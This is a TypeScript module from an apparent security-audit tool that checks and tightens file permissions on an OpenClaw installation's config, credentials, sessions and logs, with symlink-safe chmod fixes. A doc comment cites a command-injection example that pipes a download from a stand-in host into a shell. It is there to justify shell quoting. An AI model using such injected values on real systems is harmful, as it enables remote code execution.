/**
 * File modes of an OpenClaw installation: which paths must be private, how loose each one is, and the
 * only changes `--fix` makes — tightening chmods on paths owned by this user, never through a symlink.
 */
import { closeSync, constants as fsc, chmodSync, fchmodSync, fstatSync, lstatSync, openSync, realpathSync } from 'node:fs';
import { lstat, readdir, readlink, stat } from 'node:fs/promises';
import { basename, dirname, join, resolve, sep } from 'node:path';
import type { FixChange, Severity } from '../../client/security-report.js';
import { expandHome, type Installation } from './installation.js';
import { readSetting } from './settings.js';

export type PermCategory = 'state_dir' | 'config' | 'env_file' | 'credentials' | 'agents' | 'sessions' | 'logs';

export interface PermTarget {
  path: string;
  category: PermCategory;
  kind: 'dir' | 'file';
  want: number;
}

export interface PermObservation extends PermTarget {
  type: 'dir' | 'file' | 'symlink' | 'other';
  /** Permission bits of the path itself (of the link's target for a symlink). */
  mode: number;
  uid: number;
  dev: number;
  ino: number;
  linkTarget: string | null;
}

export interface PermIssue {
  observation: PermObservation;
  severity: Severity;
  reason: string;
  /** A chmod --fix may make: the path is ours, in the installation, not a symlink, of the expected type. */
  fixable: boolean;
  /** Current bits with the excess removed: tightening only, never loosening. */
  fixMode: number;
}

const SECRET_BEARING: ReadonlySet<PermCategory> = new Set(['config', 'env_file', 'credentials']);
const MAX_TREE_ENTRIES = 4000;

export function octal(mode: number): string {
  return '0' + (mode & 0o7777).toString(8).padStart(3, '0');
}

/**
 * A word as a POSIX shell reads it back unchanged: remediations are copied into terminals, and paths or
 * skill names come from files an attacker may have written (`x; curl evil | sh`).
 */
export function shellQuote(word: string): string {
  return /^[\w@%+=:,./-]+$/.test(word) ? word : `'${word.replace(/'/g, `'\\''`)}'`;
}

/** `chmod 600 PATH`: the mode as chmod takes it, the path quoted when the shell would split it. */
export function chmodCommand(mode: number, path: string): string {
  return `chmod ${(mode & 0o777).toString(8)} ${shellQuote(path)}`;
}

async function listDir(dir: string): Promise<string[]> {
  return (await readdir(dir).catch(() => [] as string[])).sort();
}

async function isDirectory(path: string): Promise<boolean> {
  return lstat(path).then((s) => s.isDirectory(), () => false);
}

async function walkFiles(dir: string, out: PermTarget[], category: PermCategory, depth: number): Promise<void> {
  for (const entry of await listDir(dir)) {
    if (out.length > MAX_TREE_ENTRIES) return;
    const path = join(dir, entry);
    const st = await lstat(path).catch(() => null);
    if (!st) continue;
    if (st.isDirectory() && depth < 4) {
      out.push({ path, category, kind: 'dir', want: 0o700 });
      await walkFiles(path, out, category, depth + 1);
    } else if (st.isFile() || st.isSymbolicLink()) out.push({ path, category, kind: 'file', want: 0o600 });
  }
}

/** Log directories: `<state>/logs` and the directories of logging.file and the guide's logging.auditLog.path. */
export function logDirectories(inst: Installation): { dirs: string[]; files: string[] } {
  const dirs = [join(inst.stateDir, 'logs')];
  const files: string[] = [];
  for (const name of ['loggingFile', 'auditLogPath'] as const) {
    const value = inst.config ? readSetting(inst.config, name).value : undefined;
    if (typeof value === 'string' && value.length > 0) {
      const file = expandHome(value, inst.home, inst.stateDir);
      files.push(file);
      dirs.push(dirname(file));
    }
  }
  return { dirs: [...new Set(dirs)], files: [...new Set(files)] };
}

/** Every path the permissions checks look at, with the mode it should have (DESIGN of the hardening guide §33.8). */
export async function permissionTargets(inst: Installation): Promise<PermTarget[]> {
  const s = inst.stateDir;
  const targets: PermTarget[] = [{ path: s, category: 'state_dir', kind: 'dir', want: 0o700 }];
  for (const f of [inst.configPath, ...inst.files.filter((f) => f.role === 'include').map((f) => f.path)]) {
    targets.push({ path: f, category: 'config', kind: 'file', want: 0o600 });
  }
  targets.push({ path: inst.envFile.path, category: 'env_file', kind: 'file', want: 0o600 });

  const credentials = join(s, 'credentials');
  if (await isDirectory(credentials)) {
    targets.push({ path: credentials, category: 'credentials', kind: 'dir', want: 0o700 });
    await walkFiles(credentials, targets, 'credentials', 0);
  }

  for (const dir of ['agents', 'memory']) targets.push({ path: join(s, dir), category: 'agents', kind: 'dir', want: 0o700 });
  for (const agent of await listDir(join(s, 'agents'))) {
    const base = join(s, 'agents', agent);
    if (!(await isDirectory(base))) continue;
    targets.push({ path: base, category: 'agents', kind: 'dir', want: 0o700 });
    targets.push({ path: join(base, 'agent'), category: 'agents', kind: 'dir', want: 0o700 });
    targets.push({ path: join(base, 'agent', 'auth-profiles.json'), category: 'credentials', kind: 'file', want: 0o600 });
    const sessions = join(base, 'sessions');
    targets.push({ path: sessions, category: 'sessions', kind: 'dir', want: 0o700 });
    for (const f of await listDir(sessions)) {
      if (f.endsWith('.jsonl') || f === 'sessions.json') targets.push({ path: join(sessions, f), category: 'sessions', kind: 'file', want: 0o600 });
    }
  }
  for (const f of await listDir(s)) if (f.endsWith('.jsonl')) targets.push({ path: join(s, f), category: 'sessions', kind: 'file', want: 0o600 });

  const logs = logDirectories(inst);
  for (const dir of logs.dirs) {
    targets.push({ path: dir, category: 'logs', kind: 'dir', want: 0o750 });
    for (const f of await listDir(dir)) if (f.endsWith('.log')) targets.push({ path: join(dir, f), category: 'logs', kind: 'file', want: 0o640 });
  }
  for (const f of logs.files) targets.push({ path: f, category: 'logs', kind: 'file', want: 0o640 });

  const seen = new Set<string>();
  return targets.filter((t) => !seen.has(t.path) && seen.add(t.path));
}

/** lstat each target; missing paths are left out. A symlink reports its target's mode (what actually protects the data). */
export async function observe(targets: readonly PermTarget[]): Promise<PermObservation[]> {
  const out: PermObservation[] = [];
  for (const t of targets) {
    const l = await lstat(t.path).catch(() => null);
    if (!l) continue;
    if (l.isSymbolicLink()) {
      const target = await stat(t.path).catch(() => null);
      out.push({ ...t, type: 'symlink', mode: (target?.mode ?? 0) & 0o7777, uid: target?.uid ?? l.uid, dev: l.dev, ino: l.ino, linkTarget: await readlink(t.path).catch(() => null) });
      continue;
    }
    const type = l.isDirectory() ? 'dir' : l.isFile() ? 'file' : 'other';
    out.push({ ...t, type, mode: l.mode & 0o7777, uid: l.uid, dev: l.dev, ino: l.ino, linkTarget: null });
  }
  return out;
}

function severityFor(excess: number, o: PermObservation): Severity {
  if (excess & 0o002) return 'critical';
  if (excess & 0o020) return 'high';
  const secret = SECRET_BEARING.has(o.category) && o.kind === 'file';
  if (excess & 0o005) return secret ? 'high' : o.category === 'logs' ? 'low' : 'medium';
  return secret ? 'medium' : 'low';
}

function describeExcess(excess: number): string {
  const parts: string[] = [];
  if (excess & 0o002) parts.push('writable by other users');
  else if (excess & 0o004 || excess & 0o001) parts.push('readable by other users');
  if (excess & 0o020) parts.push('writable by the group');
  else if (excess & 0o040 || excess & 0o010) parts.push('readable by the group');
  if (excess & 0o7000) parts.push('has setuid/setgid/sticky bits');
  return parts.join(', ');
}

function isWithin(path: string, dir: string): boolean {
  return path === dir || path.startsWith(dir.endsWith(sep) ? dir : dir + sep);
}

/**
 * The path as the kernel would reach it up to its last component: `..` resolved and every symlinked
 * parent directory followed (O_NOFOLLOW in applyFix guards only the last component). Null when a parent
 * cannot be resolved.
 */
function physicalPath(path: string): string | null {
  const absolute = resolve(path);
  try {
    return join(realpathSync(dirname(absolute)), basename(absolute));
  } catch {
    return null;
  }
}

/**
 * The paths --fix may touch: the state directory's tree, the configuration file, and paths named for
 * OpenClaw (`/var/log/openclaw/…`, `/tmp/openclaw/…`), all compared where they really are. A
 * configuration whose logging.file or $include names a system file (which an agent able to edit
 * openclaw.json could arrange), directly, through `..` or through a symlinked directory, gets that file
 * reported, never chmodded.
 */
export function autoFixScope(inst: Pick<Installation, 'stateDir' | 'configPath'>): (path: string) => boolean {
  const named = (p: string) => /openclaw/i.test(basename(p));
  let stateDir: string | null;
  try {
    stateDir = realpathSync(inst.stateDir);
  } catch {
    stateDir = null;
  }
  const configPath = physicalPath(inst.configPath);
  return (path) => {
    const real = physicalPath(path);
    if (real === null) return false;
    return (stateDir !== null && isWithin(real, stateDir)) || real === configPath || named(real) || named(dirname(real));
  };
}

export function modeIssues(observations: readonly PermObservation[], ownUid: number, mayFix: (path: string) => boolean): PermIssue[] {
  const issues: PermIssue[] = [];
  for (const o of observations) {
    const excess = o.mode & ~o.want & 0o7777;
    if (excess === 0) continue;
    const fixable = o.type === o.kind && o.uid === ownUid && mayFix(o.path);
    issues.push({ observation: o, severity: severityFor(excess, o), reason: describeExcess(excess), fixable, fixMode: o.mode & o.want & 0o777 });
  }
  return issues;
}

/** Plans the chmods for fixable issues: `chmod MODE PATH`, from and to. */
export function planFixes(issues: readonly PermIssue[]): Array<FixChange & { issue: PermIssue }> {
  return issues
    .filter((i) => i.fixable)
    .map((i) => ({ path: i.observation.path, from: octal(i.observation.mode), to: octal(i.fixMode), command: chmodCommand(i.fixMode, i.observation.path), issue: i }));
}

/**
 * Applies one planned chmod through a descriptor opened with O_NOFOLLOW, after checking it is still the
 * same inode, owned by us: a path swapped for a symlink since it was inspected is refused, not followed.
 */
export function applyFix(issue: PermIssue, ownUid: number): void {
  const o = issue.observation;
  const flags = fsc.O_RDONLY | fsc.O_NOFOLLOW | fsc.O_NONBLOCK | (o.kind === 'dir' ? fsc.O_DIRECTORY : 0);
  let fd: number | null = null;
  try {
    fd = openSync(o.path, flags);
  } catch (err) {
    if ((err as NodeJS.ErrnoException).code !== 'EACCES') throw err;
  }
  if (fd === null) {
    // Unreadable to its owner (e.g. mode 0220): re-check the path, then chmod by name.
    const st = lstatSync(o.path);
    if (st.isSymbolicLink() || st.ino !== o.ino || st.dev !== o.dev || st.uid !== ownUid) throw new Error(`${o.path} changed since it was inspected; not changed`);
    chmodSync(o.path, issue.fixMode);
    return;
  }
  try {
    const st = fstatSync(fd);
    if (st.ino !== o.ino || st.dev !== o.dev) throw new Error(`${o.path} was replaced since it was inspected; not changed`);
    if (st.uid !== ownUid) throw new Error(`${o.path} is owned by uid ${st.uid}; not changed`);
    fchmodSync(fd, issue.fixMode);
  } finally {
    closeSync(fd);
  }
}

/** Well-known names for a category, for titles. */
export const CATEGORY_LABEL: Record<PermCategory, string> = {
  state_dir: `the state directory`,
  config: 'openclaw.json and its included files',
  env_file: '.env',
  credentials: 'credentials (credentials/, auth-profiles.json)',
  agents: 'agent and memory directories',
  sessions: 'session transcripts (*.jsonl)',
  logs: 'logs',
};
